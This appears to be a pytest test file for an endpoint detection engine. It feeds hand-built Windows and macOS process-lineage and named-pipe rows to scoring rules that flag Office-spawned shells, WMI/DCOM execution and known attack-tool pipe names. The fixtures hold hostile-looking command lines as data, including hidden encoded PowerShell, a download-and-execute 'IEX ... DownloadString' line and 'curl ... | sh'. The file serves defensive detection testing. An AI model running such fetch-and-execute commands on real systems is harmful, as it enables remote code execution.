"""Windows and macOS rules on rows shaped exactly like the shipped packs' output there
(``pipes``, ``processes`` with Windows paths, ``es_process_events``): every value a string,
NULL as "", column names of ``packs/ipc-telemetry-windows.json`` and
``packs/ipc-telemetry-macos.json``. No host here runs those systems, so the rows are
written by hand from osquery's schemas."""

from __future__ import annotations

import pytest

from fleetctl.detection import Baseline, ExecutionPath, HostSnapshot, build_paths, score_path
from fleetctl.detection.scoring import severity_rank

Paths = dict[int, ExecutionPath]
SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"


def win_process(
    pid: int,
    parent: int,
    path: str,
    cmdline: str,
    *,
    start: int = 1700000000,
    table: dict[int, tuple[int, str, str]] | None = None,
) -> dict[str, str]:
    """A ``process_lineage`` row of the Windows pack (parent/grandparent joined)."""
    table = table or {}
    row = {
        "pid": str(pid),
        "parent": str(parent),
        "start_time": str(start),
        "name": path.rsplit("\\", 1)[-1],
        "path": path,
        "cmdline": cmdline,
        "cwd": "C:\\Users\\alice\\",
        "elevated_token": "0",
        "parent_start_time": "",
        "parent_name": "",
        "parent_path": "",
        "parent_cmdline": "",
        "grandparent_pid": "",
        "grandparent_name": "",
        "grandparent_path": "",
        "grandparent_cmdline": "",
    }
    if parent in table:
        gp, ppath, pcmd = table[parent]
        row.update(
            parent_start_time=str(start - 10),
            parent_name=ppath.rsplit("\\", 1)[-1],
            parent_path=ppath,
            parent_cmdline=pcmd,
            grandparent_pid=str(gp),
        )
        if gp in table:
            row.update(
                grandparent_name=table[gp][1].rsplit("\\", 1)[-1],
                grandparent_path=table[gp][1],
                grandparent_cmdline=table[gp][2],
            )
    return row


WINDOWS_TREE: dict[int, tuple[int, str, str]] = {
    4: (0, "", ""),
    600: (4, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe"),
    800: (600, SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"),
    3000: (800, SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe"),
    4000: (3900, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    5000: (4000, OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\alice\\a.docm"'),
    5100: (5000, SYS32 + "cmd.exe", "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA"),
    5200: (
        5100,
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgA",
    ),
    5300: (4000, SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\alice\\AppData\\x.dll,Start"),
    5400: (
        4000,
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
    ),
    5500: (4000, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe"),
    6000: (800, SYS32 + "mmc.exe", "C:\\Windows\\system32\\mmc.exe -Embedding"),
    6100: (
        800,
        SYS32 + "dllhost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    ),
    6200: (
        3000,
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -c IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
    ),
    6300: (5000, OFFICE + "splwow64.exe", "splwow64.exe 12288"),
}


def windows_snapshot() -> HostSnapshot:
    lineage = [
        win_process(pid, parent, path, cmd, table=WINDOWS_TREE)
        for pid, (parent, path, cmd) in WINDOWS_TREE.items()
        if path
    ]
    pipes = [
        {
            "name": "postex_8a2f",
            "pid": "5300",
            "process_name": "rundll32.exe",
            "process_path": SYS32 + "rundll32.exe",
            "process_cmdline": WINDOWS_TREE[5300][2],
        },
        {
            "name": "mojo.5400.7312.5419845374102739981",
            "pid": "5400",
            "process_name": "chrome.exe",
            "process_path": WINDOWS_TREE[5400][1],
            "process_cmdline": WINDOWS_TREE[5400][2],
        },
        {
            "name": "PSHost.133476048951797291.5500.DefaultAppDomain.powershell",
            "pid": "5500",
            "process_name": "powershell.exe",
            "process_path": WINDOWS_TREE[5500][1],
            "process_cmdline": "powershell.exe",
        },
        {
            "name": "lsass",
            "pid": "-1",
            "process_name": "",
            "process_path": "",
            "process_cmdline": "",
        },
    ]
    office = [
        {
            "pid": "5100",
            "name": "cmd.exe",
            "path": SYS32 + "cmd.exe",
            "cmdline": WINDOWS_TREE[5100][2],
            "start_time": "1700000000",
            "parent_pid": "5000",
            "parent_name": "WINWORD.EXE",
            "parent_path": OFFICE + "WINWORD.EXE",
            "parent_cmdline": WINDOWS_TREE[5000][2],
        }
    ]
    return HostSnapshot.from_results(
        "win-7",
        {
            "pack_ipc-telemetry-windows_process_lineage": lineage,
            "pack_ipc-telemetry-windows_named_pipes": pipes,
            "pack_ipc-telemetry-windows_office_lolbin_children": office,
        },
    )


@pytest.fixture(scope="module")
def windows() -> Paths:
    snap = windows_snapshot()
    assert snap.platform == "windows"
    return {p.child.pid: p for p in build_paths(snap)}


def severity(paths: Paths, pid: int, baseline: Baseline) -> tuple[str, set[str]]:
    score = score_path(paths[pid], baseline)
    return score.severity, {r.code for r in score.reasons}


def test_windows_path_key_is_lower_case_without_stdio(windows: Paths, baseline: Baseline) -> None:
    assert windows[5100].path_key() == "cmd.exe|-|winword.exe|explorer.exe|-"


def test_office_spawning_cmd_is_a_dde_chain(windows: Paths, baseline: Baseline) -> None:
    level, codes = severity(windows, 5100, baseline)
    assert {"office_chain", "child_shell"} <= codes
    assert severity_rank(level) >= severity_rank("high")
    # One step further down the chain, Office as grandparent still counts.
    level, codes = severity(windows, 5200, baseline)
    assert "office_grandparent" in codes and severity_rank(level) >= severity_rank("medium")


def test_office_helper_children_are_allowed(windows: Paths, baseline: Baseline) -> None:
    assert severity(windows, 6300, baseline)[0] == "info"


def test_dcom_and_wmi_launched_execution(windows: Paths, baseline: Baseline) -> None:
    level, codes = severity(windows, 6000, baseline)  # mmc.exe -Embedding (MMC20.Application)
    assert "dcom_chain" in codes and severity_rank(level) >= severity_rank("medium")
    level, codes = severity(windows, 6200, baseline)  # WmiPrvSE -> powershell
    assert {"wmi_chain", "child_shell"} <= codes
    assert severity_rank(level) >= severity_rank("medium")
    assert severity(windows, 6100, baseline)[0] == "info"  # dllhost COM surrogate


def test_known_tooling_pipe_served_by_child(windows: Paths, baseline: Baseline) -> None:
    assert "pipe:postex_8a2f" in windows[5300].child_listeners
    level, codes = severity(windows, 5300, baseline)
    assert "tool_pipe" in codes and severity_rank(level) >= severity_rank("medium")


def test_benign_pipe_look_alikes(windows: Paths, baseline: Baseline) -> None:
    # Chrome's mojo.* pipes and PowerShell's own PSHost pipe are not tooling.
    assert "tool_pipe" not in severity(windows, 5400, baseline)[1]
    assert "tool_pipe" not in severity(windows, 5500, baseline)[1]


@pytest.mark.parametrize(
    ("name", "server", "flagged"),
    [
        ("postex_1234", "rundll32.exe", True),
        ("MSSE-4277-server", "svchost.exe", True),
        ("mojo_1234", "rundll32.exe", True),
        ("mojo.1234.5678.90", "chrome.exe", False),
        ("PSHost.1.2.DefaultAppDomain.x", "rundll32.exe", True),
        ("PSHost.1.2.DefaultAppDomain.powershell", "powershell.exe", False),
        ("583da945-62af-10e8-4902-a8f205c72b2e", "solarwinds.exe", True),
        ("RemCom_communicaton", "remcomsvc.exe", True),
        ("lsass", "lsass.exe", False),
        ("SVCCTL", "services.exe", True),
    ],
)
def test_pipe_name_patterns(baseline: Baseline, name: str, server: str, flagged: bool) -> None:
    assert (baseline.pipe_names.verdict(name, [server]) is not None) is flagged


# -- macOS ----------------------------------------------------------------------------------

WORD = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"


def es_exec(
    pid: int,
    parent: int,
    path: str,
    cmdline: str,
    *,
    responsible: int | None = None,
    parent_path: str = "",
    responsible_path: str = "",
    time: int = 1700000100,
    user: str = "alice",
) -> dict[str, str]:
    """An ``es_exec_lineage`` row of the macOS pack."""
    return {
        "pid": str(pid),
        "pidversion": str(pid * 10 + 1),
        "parent": str(parent),
        "parent_pidversion": str(parent * 10 + 1),
        "original_parent": str(parent),
        "responsible_pid": str(responsible if responsible is not None else pid),
        "responsible_pidversion": "",
        "path": path,
        "cmdline": cmdline,
        "cwd": "/Users/alice",
        "uid": "501",
        "euid": "501",
        "username": user,
        "session_id": "100007",
        "signing_id": path.rsplit("/", 1)[-1],
        "team_id": "",
        "platform_binary": "1" if path.startswith(("/bin/", "/usr/bin/")) else "0",
        "codesigning_flags": "",
        "time": str(time),
        "parent_name": parent_path.rsplit("/", 1)[-1],
        "parent_path": parent_path,
        "responsible_name": responsible_path.rsplit("/", 1)[-1],
        "responsible_path": responsible_path,
    }


def macos_snapshot() -> HostSnapshot:
    rows = [
        es_exec(700, 1, WORD, WORD, parent_path="/sbin/launchd"),
        es_exec(900, 700, "/bin/sh", "/bin/sh -c curl -s http://x/p | sh", parent_path=WORD),
        es_exec(901, 900, "/usr/bin/curl", "curl -s http://x/p", parent_path="/bin/sh"),
        es_exec(
            1500,
            1,
            "/bin/bash",
            "/bin/bash -c id",
            responsible=700,
            parent_path="/sbin/launchd",
            responsible_path=WORD,
        ),
        es_exec(
            1600, 1550, "/usr/bin/osascript", "osascript -e do shell script", parent_path="/bin/zsh"
        ),
        es_exec(1601, 1600, "/bin/zsh", "/bin/zsh -c whoami", parent_path="/usr/bin/osascript"),
        es_exec(2000, 1900, "/bin/zsh", "-zsh", parent_path="/usr/bin/login"),
    ]
    return HostSnapshot.from_results("mac-1", {"pack_ipc-telemetry-macos_es_exec_lineage": rows})


@pytest.fixture(scope="module")
def macos() -> Paths:
    snap = macos_snapshot()
    assert snap.platform == "darwin"
    return {p.child.pid: p for p in build_paths(snap)}


def test_office_app_spawning_shell_on_macos(macos: Paths, baseline: Baseline) -> None:
    level, codes = severity(macos, 900, baseline)
    assert {"macos_office_chain", "child_shell"} <= codes
    assert severity_rank(level) >= severity_rank("high")
    assert macos[900].session == "session 100007"
    assert macos[900].child.user == "alice"


def test_xpc_work_on_behalf_of_office(macos: Paths, baseline: Baseline) -> None:
    path = macos[1500]
    assert path.responsible is not None and path.responsible.pid == 700
    level, codes = severity(macos, 1500, baseline)
    assert {"xpc_responsible", "macos_office_responsible"} <= codes
    assert severity_rank(level) >= severity_rank("medium")


def test_osascript_spawning_shell(macos: Paths, baseline: Baseline) -> None:
    level, codes = severity(macos, 1601, baseline)
    assert "macos_office_chain" in codes and severity_rank(level) >= severity_rank("medium")


def test_login_shell_is_quiet(macos: Paths, baseline: Baseline) -> None:
    assert severity(macos, 2000, baseline)[0] == "info"
